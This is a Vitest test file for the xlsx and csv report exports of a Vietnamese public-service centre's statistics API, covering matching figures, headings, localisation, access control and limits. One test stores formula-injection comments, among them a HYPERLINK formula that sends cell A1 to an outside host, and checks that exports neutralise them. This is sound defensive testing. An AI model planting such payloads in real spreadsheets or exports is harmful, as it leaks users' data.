import {
  reportMostRows,
  type LegPage,
  type RatingPage,
  type SatisfactionFigures,
  type TimesFigures,
} from '@sanh/contract';
import { addDays } from '@sanh/domain';
import { parse } from 'csv-parse/sync';
import readXlsxFile, { type CellValue } from 'read-excel-file/node';
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
import { addHistory } from '../demo/history/add-history.ts';
import { aSanh, codeOf, commune, province, type RunningSanh } from '../testing/a-sanh.ts';
import { anEmployer, roleOver } from '../testing/employ.ts';
import { longestTurn } from '../testing/longest-turn.ts';

let sanh: RunningSanh;
let cookie: string;
let clerk: string;
let clerkId: string;
let today: string;
let range: string;

beforeAll(async () => {
  sanh = await aSanh(inject('testServerUrl'));
  cookie = await sanh.signIn('quanly');
  today = (await sanh.halls.now(commune)).hall.day ?? '';
  range = `from=${addDays(today, -6)}&to=${today}`;
  await addHistory(sanh.sql, sanh.centres.get(commune), { days: 8, seed: 2, now: Date.now() });
  clerk = await (await anEmployer(sanh))('canbo', roleOver(commune, 'clerk'));
  const [account] = await sanh.sql<{ id: string }[]>`select id from staff_user where username = 'canbo'`;
  clerkId = account?.id ?? '';
}, 60_000);
afterAll(() => sanh.close());

const node = `/api/statistics/centre/${commune}`;
const asked = (path: string, by = cookie): Promise<Response> => sanh.request(path, { cookie: by });
async function figures<T>(path: string): Promise<T> {
  return (await (await asked(`${node}/${path}`)).json()) as T;
}

type Row = readonly (CellValue | null)[];

/** The table under the headings, and the block above it. */
async function sheet(
  path: string,
): Promise<{ about: Map<unknown, unknown>; headings: Row; rows: readonly Row[] }> {
  const answer = await asked(`${node}/${path}&format=xlsx`);
  expect(answer.status).toBe(200);
  const [read] = await readXlsxFile(Buffer.from(await answer.arrayBuffer()));
  const lines = read?.data ?? [];
  const empty = lines.findIndex((row) => row.every((cell) => cell === null));
  return {
    about: new Map(lines.slice(0, empty).map(([word, meaning]) => [word, meaning])),
    headings: lines[empty + 1] ?? [],
    rows: lines.slice(empty + 2),
  };
}

async function csv(path: string): Promise<string[][]> {
  const answer = await asked(`${node}/${path}&format=csv`);
  expect(answer.status).toBe(200);
  return parse(Buffer.from(await answer.arrayBuffer()), { bom: true, relax_column_count: true });
}

const percentIn = (cell: unknown): number | null =>
  typeof cell === 'number' ? Math.round(cell * 1000) / 10 : null;
/** The reader takes every time for a moment since the day from which sheets count. */
const msIn = (cell: unknown): number | null =>
  cell instanceof Date ? Math.round(cell.getTime() - Date.UTC(1899, 11, 30)) : null;

describe('a file says what the page says', () => {
  test.each(['service', 'counter', 'clerk', 'procedure'] as const)('of ratings by %s', async (by) => {
    const { by: groups, smallNumber } = await figures<SatisfactionFigures>(`satisfaction?${range}`);
    const { headings, rows } = await sheet(`satisfaction/report?${range}&by=${by}`);
    const at = (name: string): number => headings.indexOf(name);
    expect(groups[by].length).toBeGreaterThan(2);
    expect(
      rows.map((row) => [row[at('Hạng')], row[at('Lượt')], row[at('Có đánh giá')], row[at('Rất hài lòng')]]),
    ).toEqual(
      groups[by].map((one) => [one.rank, one.served, one.rated, one.bound.levels['very-satisfied'].count]),
    );
    expect(
      rows.map((row) => [percentIn(row[at('Tỷ lệ hài lòng')]), percentIn(row[at('Chưa đánh giá')])]),
    ).toEqual(
      groups[by].map(({ bound, unratedPercent }) => [
        ...[bound.total < smallNumber ? null : bound.percent, unratedPercent],
      ]),
    );
  });

  test.each(['service', 'counter', 'clerk', 'weekday'] as const)('of times by %s', async (by) => {
    const { by: groups } = await figures<TimesFigures>(`times?${range}`);
    const { rows } = await sheet(`times/report?${range}&by=${by}`);
    expect(groups[by].length).toBeGreaterThan(2);
    expect(
      rows.map(([, , legs, wait, p90, within, service, , stay, absent]) => [
        ...[legs, msIn(wait), msIn(p90), percentIn(within), msIn(service), msIn(stay), absent],
      ]),
    ).toEqual(
      groups[by].map(({ legs, times: { wait, service, stay }, outcomes }) => [
        ...[legs, wait.medianMs, wait.p90Ms, wait.withinPercent, service.medianMs, stay.medianMs],
        outcomes['no-show'],
      ]),
    );
  });

  test('of all legs behind a figure, in both kinds of file, not of a page of them', async () => {
    const all = await figures<TimesFigures>(`times?${range}`);
    const { legs: newest } = await figures<LegPage>(`legs?${range}&figure=no-show&limit=200`);
    const { rows, about } = await sheet(`legs/report?${range}&figure=no-show`);
    expect(rows).toHaveLength(all.outcomes['no-show']);
    expect(rows.slice(0, newest.length).map(([label, , , wait]) => [label, msIn(wait)])).toEqual(
      newest.map(({ label, queuedAt, calledAt }) => [label, calledAt === null ? null : calledAt - queuedAt]),
    );
    expect(about.get('Đang lọc')).toBe('Vắng mặt');
    const written = await csv(`legs/report?${range}&figure=legs`);
    expect(written.filter((line) => line.length > 2)).toHaveLength(all.legs + 1);
  });

  test('of why a rating is to be looked at', async () => {
    const flagged = sanh.sql`update rating set flags = '{one-device,own-reprint}' where rating_id = (
      select rating_id from rating where centre_id = ${commune} order by given_at desc limit 1) returning 1`;
    expect(await flagged).toHaveLength(1);
    const { headings, rows } = await sheet(`ratings/report?${range}`);
    const notes = rows.map((row) => row[headings.indexOf('Ghi chú')]).filter((note) => note !== null);
    expect(notes).toEqual([
      'Cần xem lại: nhiều đánh giá cao nhất liền nhau từ một máy; bằng phiếu do chính cán bộ in lại',
    ]);
  });

  test('of the own figures of a clerk, and of nobody else', async () => {
    const own = `/api/centres/${commune}/own-figures/report?${range}&format=csv`;
    const text = await (await asked(own, clerk)).text();
    expect(text).toContain('Cán bộ: canbo');
    expect(text).toContain('\r\nTỷ lệ hài lòng,0,,,\r\n');
    expect((await asked(own.replace(commune, province), clerk)).status).toBe(403);
    expect((await asked(`${node}/legs/report?${range}&format=csv`, clerk)).status).toBe(403);
  });
});

test('the first block names place, days and the formula, in the language of whoever asks', async () => {
  const { about } = await sheet(`satisfaction/report?${range}&by=service`);
  expect(about.get('Nơi')).toBe('Trung tâm Phục vụ hành chính công phường Tây Nha Trang');
  expect(about.get('Thời gian')).toMatch(/^\d\d\/\d\d\/\d{4} – \d\d\/\d\d\/\d{4}$/);
  expect(about.get('Cách tính tỷ lệ hài lòng')).toBe('(Rất hài lòng + Hài lòng) ÷ lượt có đánh giá');
  const { bound } = await figures<SatisfactionFigures>(`satisfaction?${range}`);
  expect(about.get('Tỷ lệ hài lòng')).toContain(`= ${String(bound.satisfied)} ÷ ${String(bound.total)} lượt`);
  const english = await sheet(`satisfaction/report?${range}&by=service&language=en`);
  expect(english.headings.slice(1, 4)).toEqual(['Service', 'Legs', 'Rated']);
  const unknown = await sheet(`times/report?${range}&by=counter&language=km`);
  expect(unknown.headings).toContain('Chờ, P90');
});

test('the file has a name that says what is in it', async () => {
  const answer = await asked(`${node}/ratings/report?from=2026-11-01&to=2026-11-02&format=csv`);
  expect(answer.headers.get('content-disposition')).toBe(
    'attachment; filename="danh-gia-y-kien_trung-tam-phuc-vu-hanh-chinh-cong-phuong-tay-nha-trang_2026-11-01_2026-11-02.csv"',
  );
  expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
});

test('what people wrote stays what they wrote, and is never run', async () => {
  const comments = [
    '=HYPERLINK("http://x.vn/"&A1;"Xem")',
    'Dài '.repeat(2500),
    'Nhanh, "gọn"\nrồi; \'tốt\'',
    '＠SUM(1)',
    '_x003D_1+1',
  ];
  const { ratings } = await figures<RatingPage>(`ratings?${range}&limit=5`);
  for (const [at, comment] of comments.entries())
    await sanh.sql`update rating set comment = ${comment} where rating_id = ${ratings[at]!.ratingId}`;
  const { rows } = await sheet(`ratings/report?${range}`);
  expect(rows.slice(0, 5).map((row) => row[4])).toEqual(comments.map((one) => one.trim()));
  const lines = (await csv(`ratings/report?${range}`)).filter((line) => line.length > 2);
  expect(lines.slice(1, 6).map((row) => row[4])).toEqual([
    ...[`'${comments[0]!}`, comments[1], comments[2], `'${comments[3]!}`, comments[4]],
  ]);
});

test('of days on which nobody came there is no share, neither none nor all', async () => {
  const empty = 'from=2026-01-01&to=2026-01-02';
  const { rows, about } = await sheet(`satisfaction/report?${empty}&by=service`);
  expect(rows).toEqual([]);
  expect(about.get('Tỷ lệ hài lòng')).toMatch(/^Chưa có đánh giá/);
  const own = await (await asked(`/api/centres/${commune}/own-figures/report?${empty}&format=csv`)).text();
  expect(own).not.toContain('0 %,');
  expect(own).toContain('\r\nChưa đánh giá,0,,,\r\n');
});

describe('what no file can be made of is refused clearly', () => {
  test.each([
    ['a range backwards', 'legs/report?from=2026-11-20&to=2026-11-19&format=csv', 'RANGE_BACKWARDS'],
    [
      'a range of years',
      'times/report?from=2020-01-01&to=2026-11-19&by=service&format=csv',
      'RANGE_TOO_LONG',
    ],
    ['another kind of file', 'legs/report?from=2026-11-01&to=2026-11-02&format=exe', 'VALIDATION_FAILED'],
    ['a page of a list', 'legs/report?from=2026-11-01&to=2026-11-02&format=csv&limit=5', 'VALIDATION_FAILED'],
  ])('%s', async (_, path, code) => {
    expect(await codeOf(await asked(`${node}/${path}`))).toBe(code);
  });

  test('more rows than a file holds', async () => {
    await sanh.sql`
      insert into leg (centre_id, ticket_id, leg, business_day, service_id, queued_at, version)
      select ${commune}, '2025-03-04.Z-' || n, 1, '2025-03-04', 'ho-tich', '2025-03-04T02:00:00Z', 1
      from generate_series(1, 20001) n`;
    const answer = await asked(`${node}/legs/report?from=2025-03-04&to=2025-03-04&format=xlsx`);
    expect(await answer.json()).toMatchObject({ code: 'REPORT_TOO_LONG', facts: { atMost: 20_000 } });
    await sanh.sql`delete from leg where ticket_id = '2025-03-04.Z-1'`;
    const most = await asked(`${node}/legs/report?from=2025-03-04&to=2025-03-04&format=xlsx`);
    expect(most.status).toBe(200);
  });
});

describe('a list of as many rows as a file holds', () => {
  const day = '2025-03-05';
  beforeAll(
    () =>
      sanh.sql.begin(async (tx) => {
        // Of this day nothing is rolled up.
        await tx`set local session_replication_role = replica`;
        await tx`
          insert into leg (centre_id, ticket_id, leg, business_day, service_id, counter_id, clerk_id, queued_at,
            called_at, started_at, ended_at, outcome, calls, version)
          select ${commune}, ${day} || '.Z-' || n, 1, ${day}, 'ho-tich', '8', ${clerkId}, '2025-03-05T02:00:00Z',
            '2025-03-05T02:09:00Z', '2025-03-05T02:10:00Z', '2025-03-05T02:20:00Z', 'served', 1, 1
          from generate_series(1, ${reportMostRows}::int) n`;
      }),
    60_000,
  );

  test('is made without holding the event loop for 50 ms', async () => {
    const path = `${node}/legs/report?from=${day}&to=${day}&format=xlsx`;
    await asked(`${path}&figure=no-show`);
    const { answer, turns, longestMs } = await longestTurn(asked(path));
    expect((await answer.arrayBuffer()).byteLength).toBeGreaterThan(reportMostRows * 20);
    expect(turns).toBeGreaterThan(20);
    expect(longestMs).toBeLessThan(50);
  }, 120_000);
});
